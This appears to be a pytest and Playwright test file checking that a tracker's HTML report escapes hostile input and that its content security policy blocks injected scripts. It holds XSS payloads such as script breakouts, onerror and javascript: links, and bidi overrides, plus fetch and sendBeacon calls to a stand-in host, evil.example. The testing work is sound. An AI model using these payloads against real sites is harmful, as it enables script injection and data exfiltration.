"""Hostile text in every field: the report shows it as text, runs none of it and fetches nothing."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from freezegun import freeze_time
from playwright.sync_api import Browser, Page, expect

from tests.attacks.test_pages import MARKUP
from tests.attacks.victim import NOW, tell, tell_all
from tests.browser.support import Visit
from tests.cli.asking_story import ask
from tests.tally import Tally
from tracker.render.report import program, style
from tracker.render.safe import escape

MORE = (
    "</script><script>document.title='owned'</script>",
    "<!--<script>",
    "<!-- --!> <script>alert(1)</script>",
    "\u202egpj.exe\u202c \u2066hidden\u2069",
    "\u2028alert(1)\u2029//",
    "{{style}} {{root}} {{data}} {{rows}}",
    "'-alert(1)-' \\'-alert(1)// ${alert(1)} `${alert(1)}`",
    "__proto__",
    "data:text/html,<script>alert(1)</script>",
    'https://evil.example/" onclick="alert(1)',
)
SLUGS = {f"odd-{number}": text for number, text in enumerate((*MARKUP, *MORE))}
TITLE = "</title><script>document.title='owned'</script>\u202e"

WRITTEN = {"html", "head", "meta", "link", "title", "style", "body", "header", "h1", "p", "b",
           "div", "section", "label", "span", "button", "svg", "input", "output", "nav", "form",
           "select", "option", "main", "ol", "fieldset", "legend", "aside", "table", "caption",
           "thead", "tr", "th", "tbody", "td", "noscript", "footer", "code", "script"}  # fmt: skip
"""The elements that a file holds."""
MADE = {"path", "circle", "rect", "line", "text", "g", "defs", "pattern", "h2", "h3", "dl", "dt",
        "dd", "blockquote", "a", "s", "li", "ul", "details", "summary"}  # fmt: skip
"""Those that the program makes besides."""
ELEMENTS = "() => [...new Set([...document.querySelectorAll('*')].map((node) => node.localName))]"
HANDLERS = """() => [...document.querySelectorAll('*')].flatMap((node) => [...node.attributes])
  .map((attribute) => attribute.name).filter((name) => name.startsWith("on"))"""


@pytest.fixture(scope="module")
def odd_report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A report of a log with hostile text in every field, under a hostile title."""
    db = tmp_path_factory.mktemp("odd") / "log.db"
    tell(str(db))
    for slug, text in SLUGS.items():
        tell_all(str(db), text, slug)
    file = db.with_name("odd.html")
    with freeze_time(NOW):
        done = ask(db, "report", "--out", str(file), "--title", TITLE, at=NOW)
    assert done.exit_code == 0, done.output
    return file


class Tags(HTMLParser):
    """Every element of a page with its attributes, and what stands in its scripts."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.within: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)


def test_the_file_has_no_element_but_its_own(odd_report: Path, tally: Tally) -> None:
    """Read as HTML, it has the template's elements, a row for each initiative, and two scripts."""
    page = odd_report.read_text(encoding="utf-8")
    tags = Tags()
    tags.feed(page)
    assert {tag for tag, _ in tags.found} <= WRITTEN
    scripts = [attributes for tag, attributes in tags.found if tag == "script"]
    assert scripts == [{"type": "application/json", "id": "data"}, {}]
    assert not [a for _, attributes in tags.found for a in attributes if a.startswith("on")]
    # What hides or turns text around stands in the file only as what it is.
    texts = page.replace(program(), "").replace(style(), "")
    assert not re.search("[\u202a-\u202e\u2066-\u2069\u2028\u2029\u0000-\u0008]", texts)
    tally.add("bad inputs tried: markup in a page", len(SLUGS))


def everything(page: Page) -> None:
    """Look at all that a page can show: every row, card, mark, change and the printed table."""
    page.locator("#to-changes").click()
    page.locator("#since").fill("2025-01-01")
    page.locator("input[value=reported]").check()
    expect(page.locator("#changes > li").first).to_be_visible()
    more = page.locator("#more")
    if more.is_visible():
        more.click()
    page.locator("#to-board").click()
    for slug in SLUGS:
        page.evaluate("slug => { location.hash = `open=${slug}` }", slug)
        expect(page.locator("#card .slug")).to_have_text(slug)
        page.evaluate(
            "() => document.querySelectorAll('#card details').forEach(d => d.open = true)"
        )
    page.evaluate(
        "() => document.querySelectorAll('.mark, .band').forEach(node =>"
        " node.dispatchEvent(new PointerEvent('pointerenter')))"
    )
    page.emulate_media(media="print")
    page.emulate_media(media="screen")


def test_no_text_runs_in_the_browser(visit: Visit, odd_report: Path) -> None:
    """Whatever is opened, no dialog, no request, no message, no element that was not made here."""
    visit.page.on("dialog", lambda dialog: visit.faults.append(f"a dialog: {dialog.message}"))
    page = visit.open(odd_report)
    everything(page)
    assert page.title() == escape(TITLE)
    assert set(page.evaluate(ELEMENTS)) <= WRITTEN | MADE
    assert page.evaluate(HANDLERS) == []
    hrefs = page.evaluate("() => [...document.querySelectorAll('a')].map(a => a.protocol)")
    assert set(hrefs) <= {"http:", "https:"}


def test_every_text_is_shown_as_it_was_written(visit: Visit, odd_report: Path) -> None:
    """The title of each card is the title that was recorded, with what steers the eye escaped."""
    page = visit.open(odd_report)
    for slug, text in SLUGS.items():
        page.evaluate("slug => { location.hash = `open=${slug}` }", slug)
        expect(page.locator("#card .slug")).to_have_text(slug)
        wanted = escape(f"Title {text}".strip(), newline_ok=True)
        assert page.locator("#card h2").text_content() == wanted


def test_the_policy_lets_nothing_else_run(chromium: Browser, odd_report: Path) -> None:
    """A script, a style, a picture or a request that someone got in all the same is blocked."""
    page = chromium.new_page()
    answered: list[str] = []
    blocked: list[str | None] = []
    page.on("response", lambda response: answered.append(response.url))
    page.on("requestfailed", lambda request: blocked.append(request.failure))
    page.goto(odd_report.as_uri())
    page.evaluate("""() => {
      const script = document.createElement("script");
      script.textContent = "globalThis.owned = true";
      document.body.append(script);
      document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='globalThis.owned = true'>"
        + "<img src='https://evil.example/a.png'><p style='color: red' id=styled>x</p>"
        + "<iframe src='https://evil.example/'></iframe><a href='javascript:owned=1' id=js>x</a>");
      document.getElementById("js").click();
      fetch("https://evil.example/").catch(() => {});
      navigator.sendBeacon("https://evil.example/", "x");
    }""")
    page.wait_for_timeout(300)
    assert page.evaluate("() => globalThis.owned") is None
    assert page.evaluate("() => getComputedStyle(document.getElementById('styled')).color") != (
        "rgb(255, 0, 0)"
    )
    assert [url for url in answered if not url.startswith(("file:", "data:"))] == []
    assert set(blocked) <= {"csp"}
    page.close()
